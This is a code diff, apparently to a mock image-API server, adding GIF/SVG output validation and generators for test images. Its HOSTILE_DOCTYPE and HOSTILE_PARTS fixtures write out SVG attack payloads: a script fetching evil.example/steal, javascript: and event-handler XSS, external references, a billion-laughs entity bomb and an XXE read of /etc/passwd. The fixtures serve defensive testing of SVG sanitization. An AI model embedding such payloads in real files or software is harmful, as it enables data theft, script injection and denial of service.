@@ -33,6 +33,8 @@ GPT_IMAGE_25 = {
 # 2.6 takes `markup` on edits: notes drawn on a transparent PNG overlay the size of the first image,
 # never with a mask (spec: openai-images.openapi.yaml, CreateImageEditRequest.markup).
 GPT_IMAGE_26 = {"gpt-image-2.6-flare", "gpt-image-2.6-sunburst"}
+# 2.6 alone makes animated GIFs and SVG drawings (spec: output_format, frame_count, frame_duration_ms).
+GIF_AND_SVG = GPT_IMAGE_26
 GPT_IMAGE = {
     *GPT_IMAGE_25,
     "gpt-image-2",
@@ -202,6 +204,7 @@ def check_model(fields: dict[str, Any], extra_models: dict[str, ExtraModel], *, 
         raise ApiError(400, f"Unknown parameter: 'complexity' for {model}.", param="complexity")
     if fields.get("background") == "transparent" and model.startswith("gpt-image-2") and model not in GPT_IMAGE_25:
         raise ApiError(400, f"Transparent background is not supported for {model}.", param="background")
+    check_animation(model, fields)
     quality = fields.get("quality")
     qualities = QUALITIES["gpt-2.5"] if model in GPT_IMAGE_25 else QUALITIES[family]
     if quality is not None and quality not in qualities:
@@ -210,6 +213,82 @@ def check_model(fields: dict[str, Any], extra_models: dict[str, ExtraModel], *, 
     if size is not None and size not in SIZES[family] and not custom_size_ok(model, size):
         raise ApiError(400, f"Invalid size '{size}' for {model}.", param="size")
     return model
+
+
+def check_animation(model: str, fields: dict[str, Any]) -> None:
+    """GIF and SVG output as the document describes it: 2.6 only; a GIF's frames only with a GIF;
+    a GIF with no streaming, no partial images and no compression (its mask is checked with the files)."""
+    wanted = fields.get("output_format")
+    if wanted in {"gif", "svg"} and model not in GIF_AND_SVG:
+        raise ApiError(400, f"Invalid output_format '{wanted}' for {model}.", param="output_format")
+    if wanted != "gif":
+        for name in ("frame_count", "frame_duration_ms"):
+            if fields.get(name) is not None:
+                raise ApiError(400, f"'{name}' is only supported with output_format 'gif'.", param=name)
+        return
+    for name in ("stream", "partial_images", "output_compression"):
+        if fields.get(name):
+            raise ApiError(400, f"'{name}' is not supported with output_format 'gif'.", param=name)
+
+
+def make_gif(width: int, height: int, seed: str, frames: int, duration: int, *, noise: bool = False) -> bytes:
+    """A real animated GIF of `frames` different frames, each shown `duration` ms: a square that
+    moves across a background of the seed's colour, the frame's number written beside it;
+    `noise` makes every frame large and incompressible."""
+    digest = hashlib.sha256(seed.encode()).digest()
+    pictures = []
+    for index in range(frames):
+        if noise:
+            frame = Image.effect_noise((width, height), 60 + index).convert("RGB")
+        else:
+            frame = Image.new("RGB", (width, height), tuple(digest[:3]))
+        draw = ImageDraw.Draw(frame)
+        side = max(4, min(width, height) // 6)
+        left = (width - side) * index // max(1, frames - 1)
+        draw.rectangle((left, height // 2 - side // 2, left + side, height // 2 + side // 2), fill=(250, 250, 250))
+        draw.text((side // 4, side // 4), str(index + 1), fill=(0, 0, 0), font=_font(max(8, side // 2)))
+        pictures.append(frame)
+    buffer = io.BytesIO()
+    pictures[0].save(buffer, "GIF", save_all=True, append_images=pictures[1:], duration=duration, loop=0)
+    return buffer.getvalue()
+
+
+# What a hostile provider might put in an SVG: a script, event handlers, an external reference,
+# a foreign object, a style that loads a file, and an entity bomb ("billion laughs") in its DOCTYPE.
+HOSTILE_DOCTYPE = (
+    '<!DOCTYPE svg [\n<!ENTITY lol0 "lol">\n'
+    + "".join(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">\n' for level in range(1, 10))
+    + '<!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
+)
+HOSTILE_PARTS = (
+    '<script>fetch("https://evil.example/steal")</script>'
+    '<rect x="0" y="0" width="10" height="10" onclick="alert(1)" fill="url(https://evil.example/fill.svg#p)"/>'
+    '<image href="https://evil.example/tracker.png" width="10" height="10"/>'
+    '<a xlink:href="javascript:alert(1)"><text x="20" y="20">&lol9;&secret;</text></a>'
+    '<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'
+    '<style>@import url("https://evil.example/sheet.css");</style>'
+)
+
+
+def make_svg(width: int, height: int, seed: str, *, hostile: bool = False) -> bytes:
+    """A real SVG drawing of simple shapes in the seed's colours; `hostile` adds what a hostile
+    provider might (see HOSTILE_PARTS), around the same drawing."""
+    digest = hashlib.sha256(seed.encode()).digest()
+    colour = "#" + digest[:3].hex()
+    accent = "#" + digest[3:6].hex()
+    shapes = (
+        f'<rect width="{width}" height="{height}" fill="{colour}"/>'
+        f'<circle cx="{width // 2}" cy="{height // 2}" r="{min(width, height) // 3}" fill="{accent}"/>'
+        f'<path d="M0 {height} L{width // 2} {height // 2} L{width} {height} Z" fill="#ffffff" opacity="0.5"/>'
+    )
+    opening = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        f'width="{width}" height="{height}" viewBox="0 0 {width} {height}"'
+    )
+    if not hostile:
+        return f'<?xml version="1.0" encoding="UTF-8"?>\n{opening}>{shapes}</svg>'.encode()
+    hostile = f'{opening} onload="alert(1)">{shapes}{HOSTILE_PARTS}</svg>'
+    return f'<?xml version="1.0" encoding="UTF-8"?>\n{HOSTILE_DOCTYPE}{hostile}'.encode()
 
 
 def custom_size_ok(model: str, size: str) -> bool:
